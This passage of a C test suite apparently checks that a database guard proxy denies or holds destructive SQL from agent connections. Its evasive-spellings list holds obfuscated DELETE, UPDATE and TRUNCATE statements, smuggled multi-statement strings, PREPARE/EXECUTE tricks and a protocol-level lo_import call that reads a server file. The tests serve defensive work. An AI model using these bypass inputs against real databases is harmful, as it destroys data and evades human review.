  g_assert_cmpint (PQexitPipelineMode (conn), ==, 1);
  assert_select_one (conn);
  PQfinish (conn);
}

/* ---------------------------------------------------------------- a query string as a whole */

static void
test_multi_statement_whole (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  g_autoptr(GuardConn) human = NULL;
  g_autofree char *n = NULL;
  PGconn *conn;
  PGresult *res;
  gint64 id;
  const char *held = "insert into t_side values (3); drop table t_side";

  if (proxy == NULL || (conn = vigil_test_env_connect (NULL)) == NULL)
    return;
  human = connect_human (proxy);
  vigil_test_exec_ok (human, "create table t_side (a int)");

  res = PQexec (conn, "select 1; insert into t_side values (1); alter role vigil_app createdb");
  assert_denied_result (res, "select 1; insert; alter role", "roles");
  PQclear (res);
  assert_select_one (conn);
  res = PQexec (conn, "alter role vigil_app createdb; insert into t_side values (2)");
  assert_denied_result (res, "alter role; insert", "roles");
  PQclear (res);
  assert_select_one (conn);
  n = vigil_test_env_upstream_value ("select count(*) from t_side");
  g_assert_cmpstr (n, ==, "0");

  /* Held as a whole: the request carries the whole string; denied, nothing of it ran. */
  res = send_and_settle (proxy, conn, held, FALSE, FALSE, NULL, &id);
  g_assert_cmpint (id, >, 0);
  assert_denied_result (res, held, "guard test says no");
  PQclear (res);
  assert_select_one (conn);
  g_clear_pointer (&n, g_free);
  n = vigil_test_env_upstream_value ("select count(*) from t_side");
  g_assert_cmpstr (n, ==, "0");
  PQfinish (conn);
}

/* ---------------------------------------------------------------- evasive spellings */

typedef struct
{
  const char *sql;
  gboolean    extended;
} Evasive;

/* Each must be held (then denied by us) or denied, and t_ev must keep its rows. */
static const Evasive evasive[] = {
  { "DELETE FROM t_ev", FALSE },
  { "/* harmless */ DeLeTe /* really */ FROM t_ev -- all of it", FALSE },
  { "DELETE\n-- comment; with semicolon\nFROM \"t_ev\"", FALSE },
  { "delete from public.t_ev where true", FALSE },
  { "DELETE FROM t_ev WHERE 1 = 1", FALSE },
  { "DELETE FROM t_ev WHERE 'a' = 'a' OR a = 1", FALSE },
  { "UPDATE t_ev SET a = 0", FALSE },
  { "update t_ev set a = 0 where not false", FALSE },
  { "WITH d AS (DELETE FROM t_ev RETURNING *) SELECT count(*) FROM d", FALSE },
  { "EXPLAIN ANALYZE DELETE FROM t_ev", FALSE },
  { "explain (analyze, buffers) delete from t_ev", FALSE },
  { "DO $$ BEGIN DELETE FROM t_ev; END $$", FALSE },
  { "do $body$ begin execute 'delete from ' || 't_ev'; end $body$", FALSE },
  { "TRUNCATE t_ev", FALSE },
  { "select 1; DELETE FROM t_ev", FALSE },
  { "select $$;$$; DELETE FROM t_ev", FALSE },
  { "DELETE FROM t_ev", TRUE },
  { "DELETE FROM t_ev WHERE true", TRUE },
  { "WITH d AS (DELETE FROM t_ev RETURNING *) SELECT count(*) FROM d", TRUE },
};

static void
assert_ev_intact (const char *after)
{
  g_autofree char *n = vigil_test_env_upstream_value ("select count(*) from t_ev where a > 0");

  if (g_strcmp0 (n, "3") != 0)
    g_error ("after '%s' t_ev has %s rows with a > 0 instead of 3: it ran", after, n);
}

static void
test_evasive (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  g_autoptr(GuardConn) human = NULL;
  PGconn *conn;

  if (proxy == NULL || (conn = vigil_test_env_connect (NULL)) == NULL)
    return;
  human = connect_human (proxy);
  vigil_test_exec_ok (human, "create table t_ev (a int); insert into t_ev values (1), (2), (3)");
  for (gsize i = 0; i < G_N_ELEMENTS (evasive); i++)
    {
      gint64 id;
      PGresult *res = send_and_settle (proxy, conn, evasive[i].sql, evasive[i].extended, FALSE,
                                       NULL, &id);

      g_test_message ("%s '%s': %s", evasive[i].extended ? "extended" : "simple",
                      evasive[i].sql, id > 0 ? "held" : "denied");
      assert_denied_result (res, evasive[i].sql, NULL);
      PQclear (res);
      assert_select_one (conn);
      assert_ev_intact (evasive[i].sql);
    }
  PQfinish (conn);
}

/* PROXY BUG (if it fails): SQL-level PREPARE/EXECUTE must be judged by the prepared text
 * (issue 4); an EXECUTE of a prepared unbounded DELETE must not run unreviewed. */
static void
test_evasive_prepare_execute (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  g_autoptr(GuardConn) human = NULL;
  PGconn *conn;
  PGresult *res;
  gint64 id;
  const char *cases[] = { "PREPARE gx AS DELETE FROM t_ev; EXECUTE gx", "EXECUTE gy" };

  if (proxy == NULL || (conn = vigil_test_env_connect (NULL)) == NULL)
    return;
  human = connect_human (proxy);
  vigil_test_exec_ok (human, "create table if not exists t_ev (a int); delete from t_ev; "
                  "insert into t_ev values (1), (2), (3)");
  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      if (i == 1)
        {
          /* Preparing alone runs nothing; it may pass (or be held). */
          res = send_and_settle (proxy, conn, "PREPARE gy AS DELETE FROM t_ev", FALSE, FALSE,
                                 NULL, &id);
          assert_ev_intact ("PREPARE gy AS DELETE FROM t_ev");
          if (PQresultStatus (res) == PGRES_FATAL_ERROR)
            {
              /* Held or denied at PREPARE already: nothing to EXECUTE. */
              assert_denied_result (res, "PREPARE gy", NULL);
              PQclear (res);
              continue;
            }
          PQclear (res);
        }
      res = send_and_settle (proxy, conn, cases[i], FALSE, FALSE, NULL, &id);
      g_test_message ("'%s': %s", cases[i], id > 0 ? "held" :
                      PQresultStatus (res) == PGRES_FATAL_ERROR ? "denied" : "RAN");
      if (PQresultStatus (res) != PGRES_FATAL_ERROR)
        g_test_fail_printf ("PROXY BUG: '%s' as agent1 under the default policy ran without a "
                            "hold (%s %s); t_ev lost its rows",
                            cases[i], PQresStatus (PQresultStatus (res)), PQcmdStatus (res));
      else
        assert_denied_result (res, cases[i], NULL);
      PQclear (res);
      vigil_test_exec_ok (human, "delete from t_ev where a <= 0 or a > 0; insert into t_ev values (1), (2), (3)");
      vigil_test_exec_ok (conn, "DEALLOCATE ALL");
    }
  PQfinish (conn);
}

/* PROXY BUG (if it fails): FunctionCall is not judged by policy; server-side lo_import by
 * oid (the FunctionCall protocol message, PQfn) must be denied like SELECT lo_import(). */
static void
test_evasive_function_call (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  PGconn *conn;
  PGresult *res;
  PQArgBlock arg;
  int result = 0, result_len = 0;
  const char *path = "/etc/hostname";

  if (proxy == NULL || (conn = vigil_test_env_connect (NULL)) == NULL)
    return;
  arg.isint = 0;
  arg.len = strlen (path);
  arg.u.ptr = (int *) path;
  /* 764 = lo_import(text), the server-side import. */
  res = PQfn (conn, 764, &result, &result_len, 1, &arg, 1);
  if (PQresultStatus (res) != PGRES_FATAL_ERROR || g_strcmp0 (vigil_test_sqlstate (res), "42501") != 0 ||
      strstr (PQresultErrorMessage (res), "Vigil") == NULL)
    g_test_fail_printf ("PROXY BUG: FunctionCall lo_import (oid 764) as agent1 was not denied by "
                        "Vigil: %s %s %s", PQresStatus (PQresultStatus (res)),
                        vigil_test_sqlstate (res), PQresultErrorMessage (res));
  PQclear (res);
  assert_select_one (conn);
  PQfinish (conn);
}

/* ---------------------------------------------------------------- humans, policy changes */

static void
test_humans_free (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  const char *statements[] = {
    "create table h_t (a int)",
    "insert into h_t values (1), (2)",
    "delete from h_t",
    "insert into h_t values (3)",
    "update h_t set a = 0",
    "WITH d AS (DELETE FROM h_t RETURNING *) SELECT count(*) FROM d",
    "EXPLAIN ANALYZE DELETE FROM h_t",
    "DO $$ BEGIN DELETE FROM h_t; END $$",
    "PREPARE hx AS DELETE FROM h_t; EXECUTE hx; DEALLOCATE hx",
    "truncate h_t",
    "alter table h_t add column b int",
    "grant select on h_t to public",
    "drop table h_t",
  };
  struct { const char *name; const char *token; } who[] = {
    { "human1", human_token }, { "admin1", admin_token },
  };

  if (proxy == NULL)
    return;
  for (gsize w = 0; w < G_N_ELEMENTS (who); w++)
    {
      PGconn *conn = connect_as (proxy, who[w].name, who[w].token);

      for (gsize i = 0; i < G_N_ELEMENTS (statements); i++)
        {
          gint64 id;
          PGresult *res = send_and_settle (proxy, conn, statements[i], FALSE, FALSE, NULL, &id);
          ExecStatusType st = PQresultStatus (res);

          if (id != 0 || (st != PGRES_COMMAND_OK && st != PGRES_TUPLES_OK))
            g_error ("%s: '%s' did not run freely: %s%s", who[w].name, statements[i],
                     id ? "held; " : "", PQresultErrorMessage (res));
          PQclear (res);
        }
      PQfinish (conn);
    }
}

static void
import_policy_file (VigilTestProxy *proxy,
                    const char     *path)
{
  g_free (vigilctl_ok (proxy, (const char * const[]) { "policy", "import", path, NULL }));
}

static void
test_policy_import_live (void)
{
  VigilTestProxy *proxy = vigil_test_env_proxy ();
  g_autoptr(GuardConn) human = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = NULL;
  g_autofree char *path = NULL;
  g_autofree char *count = NULL;
  g_autofree char *default_policy = NULL;
  const char *policy =
    "{\"version\": 1, \"default_action\": \"allow\", \"rules\": ["
    " {\"name\": \"close-t-pol\", \"match\": {\"kind\": \"agent\", \"relations\": [\"t_pol\"]},"
    "  \"action\": \"deny\", \"message\": \"t_pol is closed for agents\"}]}";
  PGconn *conn;
  PGresult *res = NULL;
  gint64 imported, took_us = -1;

  if (proxy == NULL || (conn = vigil_test_env_connect (NULL)) == NULL)
    return;
  human = connect_human (proxy);
  vigil_test_exec_ok (human, "create table t_pol (a int); insert into t_pol values (1)");
  count = vigil_test_query_value (conn, "select count(*) from t_pol");
  g_assert_cmpstr (count, ==, "1");

  dir = g_dir_make_tmp ("vigil-guard-policy-XXXXXX", &error);
  g_assert_no_error (error);
  path = g_build_filename (dir, "policy.json", NULL);
  g_assert_true (g_file_set_contents (path, policy, -1, &error));
  import_policy_file (proxy, path);
  imported = g_get_monotonic_time ();
  /* The open session's next statement follows the new policy, within a bounded time. */
  while (g_get_monotonic_time () - imported < 3 * G_USEC_PER_SEC)
    {
      res = PQexec (conn, "select count(*) from t_pol");
      if (PQresultStatus (res) == PGRES_FATAL_ERROR)
        {
          took_us = g_get_monotonic_time () - imported;
          break;
        }
      PQclear (res);
      res = NULL;
      g_usleep (50 * 1000);
    }
  if (res == NULL)
    g_test_fail_printf ("the imported policy did not apply to an open session within 3 s");
  else
    {
      g_test_message ("policy applied after %" G_GINT64_FORMAT " ms", took_us / 1000);
      assert_denied_result (res, "select count(*) from t_pol", "t_pol is closed for agents");
      PQclear (res);
      assert_select_one (conn);
    }

  /* Back to the default policy (last test, but keep the program's state sane). */
  default_policy = g_build_filename (g_getenv ("VIGIL_TEST_SRCDIR"), "..", "data",
                                     "default-policy.json", NULL);
  import_policy_file (proxy, default_policy);
  g_remove (path);
  g_rmdir (dir);
  PQfinish (conn);
}

int
main (int    argc,
      char **argv)
{
  int ret;

  vigil_test_init (&argc, &argv);
  vigil_test_env_setup (&(VigilTestProxyOptions) { .policy_json = VIGIL_TEST_PROXY_DEFAULT_POLICY });
  if (vigil_test_env_ready ())
    {
      g_autoptr(GError) error = NULL;

      human_token = vigil_test_proxy_add_identity (vigil_test_env_proxy (), "human1", "human", &error);
      if (human_token != NULL)
        admin_token = vigil_test_proxy_add_identity (vigil_test_env_proxy (), "admin1", "admin",
                                                     &error);
      if (error != NULL)
        g_printerr ("# adding identities failed: %s\n", error->message);
    }

  g_test_add_func ("/proxy/guard/deny/libpq", test_deny_libpq);
  g_test_add_func ("/proxy/guard/deny/psql", test_deny_psql);
  g_test_add_func ("/proxy/guard/deny/in-transaction", test_deny_in_transaction);
  g_test_add_func ("/proxy/guard/deny/in-pipeline", test_deny_in_pipeline);
  g_test_add_func ("/proxy/guard/deny/multi-statement", test_multi_statement_whole);
  g_test_add_func ("/proxy/guard/review/approve", test_review_approve);
  g_test_add_func ("/proxy/guard/review/deny", test_review_deny);
  g_test_add_func ("/proxy/guard/review/timeout", test_review_timeout);
  g_test_add_func ("/proxy/guard/review/withdrawn", test_review_withdrawn);
  g_test_add_func ("/proxy/guard/review/approve-for-minutes", test_review_approve_for_minutes);
  g_test_add_func ("/proxy/guard/review/self-approval", test_review_self_approval);
  g_test_add_func ("/proxy/guard/evasive/spellings", test_evasive);
  g_test_add_func ("/proxy/guard/evasive/prepare-execute", test_evasive_prepare_execute);
  g_test_add_func ("/proxy/guard/evasive/function-call", test_evasive_function_call);
  g_test_add_func ("/proxy/guard/humans", test_humans_free);
  g_test_add_func ("/proxy/guard/policy/import-live", test_policy_import_live);

  ret = g_test_run ();
  g_clear_pointer (&human_token, g_free);
  g_clear_pointer (&admin_token, g_free);
  vigil_test_env_teardown ();
  return ret;
}
